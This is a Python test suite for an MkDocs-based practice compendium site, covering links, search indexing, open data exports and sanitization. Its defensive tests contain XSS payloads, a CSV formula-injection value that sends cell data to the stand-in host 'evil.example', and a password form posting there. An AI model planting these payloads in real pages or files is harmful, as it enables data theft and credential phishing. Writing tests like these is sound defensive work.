"""The public site, built by ``mkdocs build --strict`` from the repository and from a fixture project."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import sys
import tempfile
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urljoin, urlsplit

import markdown
import pytest

from compendium.catalog import load_catalog
from compendium.records.project import Project
from compendium.settings import Settings, relative, url_of
from compendium.site.converter import Converter, finish_html, split_front_matter
from compendium.site.pages import SiteBuilder

from .conftest import RECORDS, REPO
from .sitebuild import fixture_project, mkdocs_build

SITE_PREFIX = urlsplit(
    next(
        line.split(":", 1)[1].strip()
        for line in (REPO / "mkdocs.yml").read_text().splitlines()
        if line.startswith("site_url:")
    )
).path


@pytest.fixture(scope="module")
def fixture_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = fixture_project(tmp_path_factory.mktemp("fixture") / "project")
    site = root / "site"
    result = mkdocs_build(root, site)
    assert result.returncode == 0, result.stderr
    return site


class _Links(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.links: list[tuple[str, str]] = []
        self.nav: list[str] = []
        self._in_nav = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag == "nav" and "md-nav" in (values.get("class") or ""):
            self._in_nav += 1
        for name in ("href", "src"):
            if values.get(name):
                self.links.append((tag, values[name] or ""))
                if self._in_nav and name == "href":
                    self.nav.append(values[name] or "")

    def handle_endtag(self, tag: str) -> None:
        if tag == "nav" and self._in_nav:
            self._in_nav -= 1


def parse(path: Path) -> _Links:
    parser = _Links()
    parser.feed(path.read_text(encoding="utf-8"))
    return parser


def resolve(site: Path, page: Path, link: str) -> Path | None:
    """The file a local link points to, or None for external links."""
    parts = urlsplit(link)
    if parts.scheme or parts.netloc or link.startswith("#"):
        return None
    page_url = "/" + page.relative_to(site).as_posix()
    path_part = parts.path
    if path_part.startswith(SITE_PREFIX):  # the 404 page links from the site's root path
        path_part = "/" + path_part[len(SITE_PREFIX) :]
    target = urljoin(page_url, path_part).lstrip("/")
    path = site / target
    return path / "index.html" if target == "" or target.endswith("/") or path.is_dir() else path


def test_every_page_type_exists_with_real_content(repo_site: Path) -> None:
    catalog, problems = load_catalog(Project(REPO))
    assert catalog is not None and not problems
    expected = [
        "index.html", "find/index.html", "practices/index.html", "coverage/index.html", "volumes/index.html",
        "data/index.html", "contribute/index.html", "about/index.html", "accessibility/index.html", "404.html",
        "regions/index.html", "topics/index.html", "populations/index.html",
        "data/practices.json", "data/practices.csv", "data/practice.schema.json", "feed.xml",
    ]  # fmt: skip
    expected += [f"practices/{slug}/index.html" for slug in catalog.practices]
    expected += [f"regions/{term}/index.html" for term in catalog.vocabulary.terms("regions")]
    expected += [f"topics/{term}/index.html" for term in catalog.vocabulary.terms("focus")]
    expected += [f"populations/{term}/index.html" for term in catalog.vocabulary.terms("populations")]
    missing = [path for path in expected if not (repo_site / path).is_file()]
    assert not missing
    home = (repo_site / "index.html").read_text(encoding="utf-8")
    for practice in catalog.practices.values():
        page = (repo_site / "practices" / practice.slug / "index.html").read_text(encoding="utf-8")
        assert "<h1" in page and practice.title.split(":")[0] in page
        assert "At a glance" in page and "Cite this practice" in page
        assert f"cwa-compendium/compendium/edit/main/practices/{practice.slug}.md" in page
    assert "Newest practices" in home and "Ways in" in home


def test_internal_links_resolve(repo_site: Path) -> None:
    broken = []
    for page in repo_site.rglob("*.html"):
        for tag, link in parse(page).links:
            target = resolve(repo_site, page, link)
            if target is not None and not target.exists():
                broken.append(f"{page.relative_to(repo_site)}: <{tag}> {link}")
    assert not broken


LOADING: dict[str, tuple[str, ...]] = {
    "script": ("src",), "img": ("src", "srcset"), "source": ("src", "srcset"), "iframe": ("src",),
    "frame": ("src",), "embed": ("src",), "object": ("data",), "video": ("src", "poster"),
    "audio": ("src",), "track": ("src",), "input": ("src",), "image": ("href", "xlink:href"),
    "use": ("href", "xlink:href"),
}  # fmt: skip
"""Elements whose attributes make the browser fetch something."""
LOADING_RELS = {
    "stylesheet", "icon", "shortcut", "apple-touch-icon", "mask-icon", "manifest", "preload",
    "modulepreload", "prefetch", "prerender", "preconnect", "dns-prefetch",
}  # fmt: skip
"""``<link rel>`` values that fetch or contact a host; ``canonical`` and ``alternate`` only name one."""
_CSS_URL = re.compile(r"""url\(\s*['"]?([^'")\s]+)|@import\s+['"]([^'"]+)""")


class _Loads(HTMLParser):
    """Every address an HTML page makes the browser fetch: elements, ``<link>`` by rel, inline styles."""

    def __init__(self) -> None:
        super().__init__()
        self.fetched: list[str] = []
        self._style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        names = LOADING.get(tag, ())
        if tag == "link" and LOADING_RELS & set(values.get("rel", "").lower().split()):
            names = ("href", "imagesrcset")
        for name in names:
            for candidate in values.get(name, "").split(","):
                if candidate.strip():
                    self.fetched.append(f"<{tag} {name}> {candidate.strip().split()[0]}")
        if tag == "meta" and values.get("http-equiv", "").lower() == "refresh":
            self.fetched.append(f"<meta refresh> {values.get('content', '')}")
        self.fetched.extend(
            f"<{tag} style> {m[0] or m[1]}" for m in _CSS_URL.findall(values.get("style", ""))
        )
        self._style = tag == "style"

    def handle_data(self, data: str) -> None:
        if self._style:
            self.fetched.extend(f"<style> {m[0] or m[1]}" for m in _CSS_URL.findall(data))

    def handle_endtag(self, tag: str) -> None:
        self._style = False


def fetched_from_other_hosts(html: str) -> list[str]:
    parser = _Loads()
    parser.feed(html)
    return [f for f in parser.fetched if urlsplit(f.split("> ", 1)[1]).netloc or "://" in f or "refresh" in f]


def test_the_host_check_sees_every_kind_of_fetch() -> None:
    page = (
        '<link rel="canonical" href="https://example.org/a/"><link rel="alternate" href="https://example.org/f">'
        '<link rel="stylesheet" href="https://fonts.example/x.css"><link rel="preconnect" href="https://cdn.example">'
        '<img srcset="a.png 1x, https://img.example/b.png 2x"><div style="background:url(https://t.example/p)">'
        "<style>@import 'https://css.example/i.css';</style><script src=//js.example/s.js></script>"
    )
    assert fetched_from_other_hosts(page) == [
        "<link href> https://fonts.example/x.css",
        "<link href> https://cdn.example",
        "<img srcset> https://img.example/b.png",
        "<div style> https://t.example/p",
        "<style> https://css.example/i.css",
        "<script src> //js.example/s.js",
    ]


def test_no_asset_comes_from_another_host(repo_site: Path) -> None:
    external = [
        f"{page.relative_to(repo_site)}: {fetch}"
        for page in sorted(repo_site.rglob("*.html"))
        for fetch in fetched_from_other_hosts(page.read_text(encoding="utf-8"))
    ]
    for sheet in sorted(repo_site.rglob("*.css")):
        for match in _CSS_URL.findall(sheet.read_text(encoding="utf-8")):
            if urlsplit(match[0] or match[1]).netloc:
                external.append(f"{sheet.relative_to(repo_site)}: {match[0] or match[1]}")
    assert external == []


def test_nav_holds_index_pages_only(repo_site: Path) -> None:
    page = repo_site / "practices" / "k16-shared-governance" / "index.html"
    nav = parse(page).nav
    assert not [link for link in nav if re.search(r"practices/[a-z0-9-]+/$", link)]
    assert any(link.endswith("find/") for link in nav)


def test_build_log_names_no_broken_or_unrecognized_link(repo_site: Path) -> None:
    log = (repo_site.parent / f"{repo_site.name}.log").read_text(encoding="utf-8")
    assert "WARNING" not in log
    assert "unrecognized relative link" not in log and "not found among documentation files" not in log


def test_build_log_says_what_was_made_and_nothing_a_user_need_not_read(repo_site: Path) -> None:
    log = (repo_site.parent / f"{repo_site.name}.log").read_text(encoding="utf-8")
    catalog, _ = load_catalog(Project(REPO))
    assert catalog is not None
    assert re.search(
        rf"INFO    -  Compendium: {len(catalog.practices)} practices and {len(catalog.volumes)} volume\(s\) "
        rf"in \d+ pages( \(\d+ kept from an earlier build\))?; \d+ PDF\(s\) rendered, \d+ reused; "
        rf"search indexed {len(catalog.practices)} pages\n",
        log,
    )
    assert 'are not included in the "nav" configuration' not in log
    assert "Traceback" not in log and "DeprecationWarning" not in log


def test_search_indexes_every_practice_page_and_nothing_else(repo_site: Path) -> None:
    catalog, _ = load_catalog(Project(REPO))
    assert catalog is not None
    entry = json.loads((repo_site / "pagefind" / "pagefind-entry.json").read_text(encoding="utf-8"))
    assert entry["languages"]["en"]["page_count"] == len(catalog.practices)
    assert (repo_site / "pagefind" / "pagefind.js").is_file()


def test_indexing_takes_pages_one_by_one_and_cleans_up(tmp_path: Path) -> None:
    import gzip

    from compendium.site.search import Indexing

    indexing = Indexing(tmp_path / "site")
    content = (
        "<h1>Regional reentry navigators</h1><p>Navigators meet people leaving prison.</p>"
        '<span data-pagefind-filter="region:statewide"></span>'
    )
    indexing.add("practices/regional-reentry-navigators/", content)
    indexing.start()
    assert indexing.finish() == "Pagefind: Indexed 1 page"
    bundle = tmp_path / "site" / "pagefind"
    entry = json.loads((bundle / "pagefind-entry.json").read_text(encoding="utf-8"))
    assert entry["languages"]["en"]["page_count"] == 1
    fragment = gzip.decompress(next((bundle / "fragment").iterdir()).read_bytes()).decode()
    assert '"url":"/practices/regional-reentry-navigators/"' in fragment and "leaving prison" in fragment
    assert list((bundle / "filter").iterdir())
    assert not Path(indexing.folder).exists()


def test_indexing_reports_a_page_it_cannot_write_and_cleans_up(tmp_path: Path) -> None:
    from compendium.site.search import Indexing, SearchError

    indexing = Indexing(tmp_path / "site")
    indexing.add("practices/a/", "<p>A</p>")
    with pytest.raises(
        SearchError, match=r"^Pagefind's copy of practices/a/index\.html/ could not be written: "
    ):
        indexing.add("practices/a/index.html/", "<p>A page where a file already is</p>")
    assert not Path(indexing.folder).exists() and not (tmp_path / "site" / "pagefind").exists()


def test_pagefind_that_cannot_start_fails_or_hangs_is_reported_and_cleaned_up(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import subprocess

    from compendium.site import search

    def refuse(*args: object, **kwargs: object) -> None:
        raise FileNotFoundError(2, "No such file or directory")

    indexing = search.Indexing(tmp_path / "site")
    monkeypatch.setattr(search.subprocess, "Popen", refuse)
    with pytest.raises(search.SearchError, match=r"^Pagefind could not start: \[Errno 2\] No such file"):
        indexing.start()
    assert not Path(indexing.folder).exists()
    monkeypatch.undo()

    class Hung:
        returncode = None

        def communicate(self, timeout: float | None = None) -> tuple[str, str]:
            if timeout is not None:
                raise subprocess.TimeoutExpired("pagefind", timeout)
            return "", ""

        def poll(self) -> None:
            return None

        def kill(self) -> None:
            pass

        def wait(self, timeout: float | None = None) -> None:
            return None

        stdout = stderr = None

    indexing = search.Indexing(tmp_path / "site")
    indexing._process = Hung()  # type: ignore[assignment]
    with pytest.raises(search.SearchError, match=r"^Pagefind took more than 10 minutes and was stopped$"):
        indexing.finish()
    assert not Path(indexing.folder).exists()

    class Failing(search.Indexing):
        def command(self) -> list[str]:
            return [sys.executable, "-c", "import sys; sys.exit('no pages found')"]

    indexing = Failing(tmp_path / "site")
    indexing.add("practices/a/", "<p>A</p>")
    with pytest.raises(search.SearchError, match=r"^Pagefind failed to index .*site:\nno pages found"):
        indexing.finish()
    assert not Path(indexing.folder).exists() and not (tmp_path / "site" / "pagefind").exists()


def test_pages_wait_for_pagefind_in_memory_only_where_there_is_room() -> None:
    from compendium.site.search import PAGE_ROOM, scratch_root

    if not os.access("/dev/shm", os.W_OK):
        assert scratch_root(1) is None
        return
    room = shutil.disk_usage("/dev/shm").free
    assert scratch_root(1) == "/dev/shm"
    assert scratch_root(room // PAGE_ROOM + 1) is None  # e.g. a container's 64 MB /dev/shm


def test_open_data(repo_site: Path) -> None:
    catalog, _ = load_catalog(Project(REPO))
    assert catalog is not None
    data = json.loads((repo_site / "data" / "practices.json").read_text(encoding="utf-8"))
    assert data["count"] == len(catalog.practices) == len(data["practices"])
    first = next(p for p in data["practices"] if p["id"] == "k16-shared-governance")
    assert first["phases"] == [
        {
            "phase": "implementation",
            "start": "2022",
            "note": "Technical assistance to the three regions on governance began in 2022.",
        }
    ]
    assert first["url"].endswith("/practices/k16-shared-governance/")
    rows = list(
        csv.DictReader(io.StringIO((repo_site / "data" / "practices.csv").read_text(encoding="utf-8")))
    )
    assert len(rows) == len(catalog.practices)
    assert {r["id"] for r in rows} == set(catalog.practices)
    feed = ET.parse(repo_site / "feed.xml").getroot()
    atom = "{http://www.w3.org/2005/Atom}"
    assert len(feed.findall(f"{atom}entry")) == len(catalog.practices)
    schema = json.loads((repo_site / "data" / "practice.schema.json").read_text(encoding="utf-8"))
    assert schema == json.loads((REPO / "practices" / "practice.schema.json").read_text(encoding="utf-8"))
    footer = (repo_site / "about" / "index.html").read_text(encoding="utf-8")
    assert 'href="../data/practices.json"' in footer and 'href="../feed.xml"' in footer


def test_coverage_grid_links_to_filtered_finder(repo_site: Path) -> None:
    page = (repo_site / "coverage" / "index.html").read_text(encoding="utf-8")
    assert 'href="../find/?region=los-angeles-k16&amp;focus=shared-governance"' in page
    assert "cmp-coverage__cell--empty" in page


def test_fixture_site_builds_strict_with_every_field(fixture_site: Path) -> None:
    page = (fixture_site / "practices" / "complete" / "index.html").read_text(encoding="utf-8")
    assert "$250,000" in page and "Reported outcomes" in page and "1.10%" in page
    for shown in (
        "$4,437 per participant",
        "2,000+ students",
        "about 17.1%",
        "85%\u201390%",
        "Undated: the source gives no date",
        "Context figures",
        "First regional convening",
        "Example Achievement Award",
        "(new region, awaiting an editor)",
        "FY 2023\u201324",
        "also fiscal agent",
    ):
        assert shown in page, shown
    minimal = (fixture_site / "practices" / "minimal" / "index.html").read_text(encoding="utf-8")
    assert "Awaiting review" in minimal


def test_invalid_record_fails_the_build_with_the_same_messages(tmp_path: Path) -> None:
    bad = (RECORDS / "good" / "minimal.md").read_text().replace("status: submitted", "status: acepted")
    root = fixture_project(tmp_path / "project", {"broken.md": bad})
    result = mkdocs_build(root, tmp_path / "site")
    assert result.returncode != 0
    assert (
        "practices/broken.md:9:1: status: 'acepted' is not a known term in statuses; did you mean 'accepted' (Accepted)?"
    ) in result.stderr
    assert "Traceback" not in result.stderr


@pytest.mark.parametrize(
    ("setting", "message"),
    [
        (
            "use_directory_urls: false",
            "'use_directory_urls: false' is not supported by the compendium plugin, whose pages link each "
            "other as directory URLs (practices/<id>/); remove the setting or set it to true",
        ),
        (
            "concurrency: 0",
            "plugins.compendium.concurrency: expected a whole number of processes, 1 or more, received 0",
        ),
    ],
    ids=["file-urls", "no-processes"],
)
def test_settings_the_plugin_refuses(tmp_path: Path, setting: str, message: str) -> None:
    root = fixture_project(tmp_path / "project")
    config = root / "mkdocs.yml"
    text = config.read_text(encoding="utf-8")
    if setting.startswith("concurrency"):  # an option of the plugin
        assert "  - compendium\n" in text
        text = text.replace("  - compendium\n", f"  - compendium:\n      {setting}\n")
    else:
        text += f"\n{setting}\n"
    config.write_text(text, encoding="utf-8")
    result = mkdocs_build(root, tmp_path / "site")
    assert result.returncode == 1
    assert f"ERROR   -  {config}: {message}\n" in result.stderr
    assert "Traceback" not in result.stderr


def test_retired_practice_keeps_its_page_with_a_banner(tmp_path: Path) -> None:
    retired = (
        (RECORDS / "good" / "minimal.md")
        .read_text()
        .replace(
            "status: submitted", "status: retired\nretired: The partnership ended when its grant closed."
        )
        .replace("Golden minimal record", "Retired record")
    )
    root = fixture_project(tmp_path / "project", {"retired-one.md": retired})
    assert mkdocs_build(root, tmp_path / "site").returncode == 0
    page = (tmp_path / "site" / "practices" / "retired-one" / "index.html").read_text(encoding="utf-8")
    assert (
        "This practice has been retired." in page and "The partnership ended when its grant closed." in page
    )


def test_sanitizer_is_a_second_wall(tmp_path: Path) -> None:
    # Build a page from a record whose body would never pass validation.
    catalog, _ = load_catalog(Project(REPO))
    assert catalog is not None
    import dataclasses

    practice = catalog.practices["k16-shared-governance"]
    evil = (
        "## Need\n\n<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\n[x](javascript:alert(1))\n\n"
        '<iframe src="https://example.org"></iframe>\n\n<div onclick="steal()">hi</div>\n'
    )
    catalog.practices[practice.slug] = dataclasses.replace(practice, body=evil)
    builder = SiteBuilder(catalog, Settings(site_name="Test"), Converter(["tables", "toc"], {}))
    page = next(p for p in builder.pages() if p.path == f"practices/{practice.slug}.md")
    # Both ways a practice page reaches a reader: converted ahead, or by MkDocs and then finished.
    assert page.html is not None
    by_mkdocs = finish_html(
        markdown.markdown(split_front_matter(page.stashed), extensions=["tables"]), page.blocks
    )
    for html in (page.html.content, by_mkdocs):
        elements = _Elements()
        elements.feed(html)
        assert not {"script", "iframe", "img"} & {tag for tag, _ in elements.found}
        assert not [
            (tag, name) for tag, attrs in elements.found for name, _ in attrs if name.startswith("on")
        ]
        assert not [
            value for _, attrs in elements.found for _, value in attrs if "javascript:" in (value or "")
        ]
        # What validation would have refused is shown, as text, where the record put it.
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
        assert "data-pagefind-filter" in html and 'class="cmp-glance"' in html
        assert "CMPBLOCK" not in html


class _Elements(HTMLParser):
    """Every element of a page with its attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


def test_pages_converted_ahead_match_what_mkdocs_makes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each page's HTML made with the page (on both cores) is exactly MkDocs' own."""
    from mkdocs.commands.build import build
    from mkdocs.config import load_config
    from mkdocs.structure.pages import Page

    from compendium.plugin.structure import ConvertedPage

    linking = (
        (RECORDS / "good" / "minimal.md")
        .read_text(encoding="utf-8")
        .replace("Golden minimal record", "Linking record")
        .replace(
            "## Need\nN.",
            "## Need\nSee [its results](complete.md#results), [it](complete.md?x=1), [here](#need).",
        )
    )
    root = fixture_project(tmp_path / "project", {"linking.md": linking})
    config = load_config(str(root / "mkdocs.yml"), site_dir=str(tmp_path / "site"))
    config.plugins["compendium"].config.search = False
    compared: dict[str, ConvertedPage] = {}
    ahead = ConvertedPage.render

    def render_both(page: ConvertedPage, config: Any, files: Any) -> None:
        ahead(page, config, files)
        assert page.converted_ahead, page.file.src_uri
        made = (page.content, str(page.toc), page.present_anchor_ids, page.links_to_anchors)
        Page.render(page, config, files)  # MkDocs' own conversion of the same Markdown
        blocks = config.plugins["compendium"].blocks
        assert made[0] == finish_html(page.content or "", blocks)
        assert made[1] == str(page.toc)
        assert made[2] is not None and page.present_anchor_ids is not None
        assert page.present_anchor_ids <= made[2]  # ahead also knows the ids inside the template's blocks
        assert made[3] == page.links_to_anchors
        page.content, page.present_anchor_ids, page.links_to_anchors = made[0], made[2], made[3]
        compared[page.file.src_uri] = page

    monkeypatch.setattr(ConvertedPage, "render", render_both)
    build(config)
    # The practice pages, and the pages of every region, topic and population.
    practices = sorted(p for p in compared if p.startswith("practices/"))
    assert practices == ["practices/complete.md", "practices/linking.md", "practices/minimal.md"]
    assert {p.split("/")[0] for p in compared} == {"practices", "regions", "topics", "populations"}
    assert "regions/riverside-county.md" in compared
    linking_html = compared["practices/linking.md"].content or ""
    assert 'href="../complete/#results"' in linking_html and 'href="../complete/?x=1"' in linking_html
    assert compared["practices/linking.md"].toc.items[0].title == "Linking record"


def test_a_plugin_changing_a_practice_page_gets_it_converted_by_mkdocs(tmp_path: Path) -> None:
    root = fixture_project(tmp_path / "project")
    (root / "hook.py").write_text(
        "def on_page_markdown(markdown, page, **kwargs):\n"
        "    return markdown + '\\n\\nAdded by a hook <script>alert(1)</script>.\\n'\n",
        encoding="utf-8",
    )
    with (root / "mkdocs.yml").open("a", encoding="utf-8") as config:
        config.write("hooks:\n  - hook.py\n")
    result = mkdocs_build(root, tmp_path / "site")
    assert result.returncode == 0, result.stderr
    page = (tmp_path / "site" / "practices" / "complete" / "index.html").read_text(encoding="utf-8")
    assert "Added by a hook" in page and "<script>alert" not in page
    assert 'class="cmp-glance"' in page and "CMPBLOCK" not in page


def test_relative_links_between_pages() -> None:
    assert url_of("index.md") == ""
    assert url_of("practices/index.md") == "practices/"
    assert url_of("practices/a.md") == "practices/a/"
    assert relative("practices/a.md", "regions/b.md") == "../../regions/b/"
    assert relative("practices/a.md", "index.md") == "../../"
    assert relative("index.md", "find.md") == "find/"
    assert relative("index.md", "index.md") == "./"
    assert relative("volumes/01-x/index.md", "data/practices.json") == "../../data/practices.json"


def test_materialize_writes_the_same_pages(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from compendium.cli.main import main

    target = tmp_path / "tree"
    assert main(["--root", str(REPO), "materialize", str(target)]) == 0
    docs = target / "docs"
    assert (
        (docs / "practices" / "k16-shared-governance.md")
        .read_text(encoding="utf-8")
        .startswith("---\ntitle:")
    )
    assert (docs / "data" / "practices.json").is_file()
    assert (docs / "css" / "compendium.css").is_file()  # the site's own assets
    assert (docs / "fonts" / "source-serif-regular.woff2").is_file()
    assert (docs / "volumes" / "01-the-genius-of-regions" / "01-the-genius-of-regions.pdf").is_file()
    assert (target / "overrides" / "main.html").is_file()
    assert not (target / "overrides" / "partials" / "cmp-cached.html").exists()  # the plugin's own
    assert main(["--root", str(REPO), "materialize", str(REPO / "practices")]) == 2


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_open_data_csv_cells_never_start_a_formula(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], start: str
) -> None:
    from compendium.cli.main import main

    title = f'{start}HYPERLINK("https://evil.example/?leak="&A1,"Open")'
    record = (RECORDS / "good" / "minimal.md").read_text(encoding="utf-8")
    record = record.replace("title: Golden minimal record", "title: " + json.dumps(title))
    record = record.replace(
        "contact: {organisation: Example Board}", "contact: {organisation: '@Example Board'}"
    )
    root = fixture_project(tmp_path / "project", {"formula.md": record})
    assert main(["--root", str(root), "materialize", "--no-pdf", str(tmp_path / "out")]) == 0
    rows = list(
        csv.DictReader(io.StringIO((tmp_path / "out" / "docs" / "data" / "practices.csv").read_text("utf-8")))
    )
    row = next(r for r in rows if r["id"] == "formula")
    assert row["title"] == "'" + title
    assert row["contact"] == "'@Example Board"
    # The JSON keeps the value as written: only spreadsheets need the guard.
    data = json.loads((tmp_path / "out" / "docs" / "data" / "practices.json").read_text("utf-8"))
    assert next(p for p in data["practices"] if p["id"] == "formula")["title"] == title


def test_volume_pages_link_their_pdf(repo_site: Path) -> None:
    page = (repo_site / "volumes" / "01-the-genius-of-regions" / "index.html").read_text(encoding="utf-8")
    assert 'href="01-the-genius-of-regions.pdf"' in page
    pdf = repo_site / "volumes" / "01-the-genius-of-regions" / "01-the-genius-of-regions.pdf"
    # A published volume's PDF is its last printing, byte for byte as kept.
    printings = sorted(
        (REPO / "volumes" / "01-the-genius-of-regions" / "printings").iterdir(), key=lambda p: int(p.name)
    )
    assert pdf.read_bytes() == (printings[-1] / "edition.pdf").read_bytes()
    draft = (repo_site / "volumes" / "02-regional-k-16-education-collaboratives" / "index.html").read_text(
        encoding="utf-8"
    )
    assert "Draft, not yet published." in draft and "Download the draft (PDF)" in draft
    practice = (repo_site / "practices" / "prison-to-employment-regional-reentry" / "index.html").read_text(
        encoding="utf-8"
    )
    assert "Volume 1</a>" in practice


def test_updated_practice_banner_and_unchanged_rebuild_renders_no_pdf(tmp_path: Path) -> None:
    root = tmp_path / "project"
    shutil.copytree(REPO, root, ignore=shutil.ignore_patterns("site", ".git", ".cache", ".venv", "tests"))
    living = root / "practices" / "prison-to-employment-regional-reentry.md"
    living.write_text(
        living.read_text(encoding="utf-8").replace("## Need", "## Need\n\nNews.", 1), encoding="utf-8"
    )
    first = mkdocs_build(root, tmp_path / "site1", "-v")
    assert first.returncode == 0, first.stderr
    page = (
        tmp_path / "site1" / "practices" / "prison-to-employment-regional-reentry" / "index.html"
    ).read_text(encoding="utf-8")
    assert "Updated since" in page and "Volume 1</a>" in page
    unchanged = (tmp_path / "site1" / "practices" / "k16-shared-governance" / "index.html").read_text(
        encoding="utf-8"
    )
    assert "Updated since" not in unchanged
    # A rebuild with nothing changed renders no PDF: the draft's comes from the cache keyed by content,
    # and the published volume's is never rendered, only served as kept.
    second = mkdocs_build(root, tmp_path / "site2", "-v")
    assert second.returncode == 0
    assert "Volume 2: wrote" in first.stderr and "Volume 2: wrote" not in second.stderr
    assert "Volume 2: unchanged since the last render, reused its PDF" in second.stderr
    assert "Volume 1: wrote" not in first.stderr + second.stderr
    assert "Volume 1: serving its " in second.stderr
    assert "Step 5 - Creating layout" not in second.stderr
    assert (
        tmp_path / "site2" / "volumes" / "01-the-genius-of-regions" / "01-the-genius-of-regions.pdf"
    ).read_bytes() == (
        tmp_path / "site1" / "volumes" / "01-the-genius-of-regions" / "01-the-genius-of-regions.pdf"
    ).read_bytes()


def test_a_project_without_practices_builds(tmp_path: Path) -> None:
    from .sitebuild import mkdocs_build

    root = tmp_path / "empty"
    (root / "practices").mkdir(parents=True)
    shutil.copy(REPO / "mkdocs.yml", root / "mkdocs.yml")
    shutil.copytree(REPO / "overrides", root / "overrides")
    shutil.copy(REPO / "practices" / "vocabulary.yml", root / "practices" / "vocabulary.yml")
    result = mkdocs_build(root, tmp_path / "site")
    assert result.returncode == 0, result.stderr
    assert "Pagefind: no practice to index yet" in result.stderr
    assert (tmp_path / "site" / "find" / "index.html").is_file()


PASSWORD_FORM = (
    "<form/action=https://evil.example/c method=post><input/name=password type=password>"
    "<button/type=submit>Sign in"
)


def test_text_the_validator_read_as_text_is_text_on_the_page(tmp_path: Path) -> None:
    """markdown-it reads '<form/action=…>' as text, Python-Markdown read it as HTML: one parser now."""
    record = (RECORDS / "good" / "minimal.md").read_text(encoding="utf-8")
    record = record.replace("## Need\nN.", "## Need\n" + PASSWORD_FORM).replace("Golden minimal", "Sign-in")
    root = fixture_project(tmp_path / "project", {"form.md": record})
    volume = root / "volumes" / "01-one"
    volume.mkdir(parents=True)
    (volume / "volume.yml").write_text(
        "number: 1\ntitle: One\npublishers: [Org]\nstatus: draft\nsections:\n  - title: S\n    practices: [form]\n",
        encoding="utf-8",
    )
    (volume / "foreword.md").write_text(PASSWORD_FORM + "\n", encoding="utf-8")
    result = mkdocs_build(root, tmp_path / "site")
    assert result.returncode == 0, result.stderr
    for page in ("practices/form/index.html", "volumes/01-one/index.html"):
        html = (tmp_path / "site" / page).read_text(encoding="utf-8")
        elements = _Elements()
        elements.feed(html)
        # The theme's own forms (the palette toggle) have no action and no password field.
        assert not [attrs for tag, attrs in elements.found if tag == "form" and dict(attrs).get("action")], (
            page
        )
        assert not [attrs for tag, attrs in elements.found if dict(attrs).get("type") == "password"], page
        assert "&lt;form/action=https://evil.example/c method=post&gt;" in html, page


def test_a_pathological_body_builds_in_seconds(tmp_path: Path) -> None:
    """59,000 '[' took Python-Markdown 662 s to render; the validator's parser is linear."""
    record = (RECORDS / "good" / "minimal.md").read_text(encoding="utf-8")
    record = record.replace("## Results\nR.", "## Results\n" + "[" * 59_000).replace(
        "Golden minimal", "Brackets"
    )
    root = fixture_project(tmp_path / "project", {"brackets.md": record})
    # A timeout, not a timing: the old renderer would not finish within it on any machine.
    result = mkdocs_build(root, tmp_path / "site", timeout=120)
    assert result.returncode == 0, result.stderr
    assert "[[[[" in (tmp_path / "site" / "practices" / "brackets" / "index.html").read_text(encoding="utf-8")


@pytest.mark.parametrize("where", ["overrides/assets/leak.txt", "overrides/theme/partials/leak.html"])
def test_the_build_publishes_no_file_through_a_link(tmp_path: Path, where: str) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET=hunter2\n", encoding="utf-8")
    root = fixture_project(tmp_path / "project")
    (root / where).symlink_to(secret)
    result = mkdocs_build(root, tmp_path / "site")
    assert result.returncode == 1
    assert (
        f"ERROR   -  {where}: is a symbolic link; Compendium reads only regular files inside the project: "
        "put the file itself here\n"
    ) in result.stderr
    assert not (tmp_path / "site" / "leak.txt").exists()


STOPPED_BUILD = """
import sys, time
from pathlib import Path
from compendium.site import search

class LongIndexing(search.Indexing):
    def command(self):  # a Pagefind that takes its time
        return [sys.executable, "-c", "import time; time.sleep(60)"]

indexing = LongIndexing(Path(sys.argv[1]), pages=1, in_memory=False)
indexing.add("practices/a/", "<p>A</p>")
indexing.start()
print(indexing._process.pid, indexing.folder, flush=True)
time.sleep(60)
"""


def _running(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/status").read_text(encoding="utf-8")
    except FileNotFoundError:
        return False
    return "\\nState:\\tZ" not in state  # a zombie has stopped; only its exit status is left


STOP_SECONDS = 3.0
"""How long a stopped build may take to exit. After the signal it has nothing left to finish: it kills
Pagefind (it does not wait for it to index) and removes a one-page scratch folder. Measured on two
cores: 0.01-0.02 s idle, 0.06-0.12 s with six busy loops and a site build running beside it; a build
that waited for this test's Pagefind would take 60 s."""


def _with_ctrl_c() -> None:
    """Run in a child before it starts: SIGINT at its default, as a shell sets it for a command typed at it."""
    import signal

    # A shell's background job (`pytest ... &`, as when tests run beside other builds) starts with
    # SIGINT ignored; Python then installs no KeyboardInterrupt handler, so a build started from it
    # ignores SIGINT, as a background job should. That, not load, made the SIGINT case wait out its
    # 10 s once: under load a stopped build still exits within 0.12 s.
    signal.signal(signal.SIGINT, signal.SIG_DFL)


@pytest.mark.parametrize("signal_name", ["SIGKILL", "SIGTERM", "SIGINT"])
def test_pagefind_and_its_scratch_do_not_outlive_a_stopped_build(tmp_path: Path, signal_name: str) -> None:
    import signal
    import subprocess
    import time

    from compendium.site.search import Indexing

    build = subprocess.Popen(
        [sys.executable, "-c", STOPPED_BUILD, str(tmp_path / "site")],
        stdout=subprocess.PIPE,
        text=True,
        env={**os.environ, "PYTHONPATH": str(REPO / "scripts")},
        preexec_fn=_with_ctrl_c,
    )
    assert build.stdout is not None
    pid, folder = build.stdout.readline().split()
    assert _running(int(pid)) and Path(folder).is_dir()
    signum = getattr(signal, signal_name)
    stopped = time.monotonic()
    build.send_signal(signum)
    try:
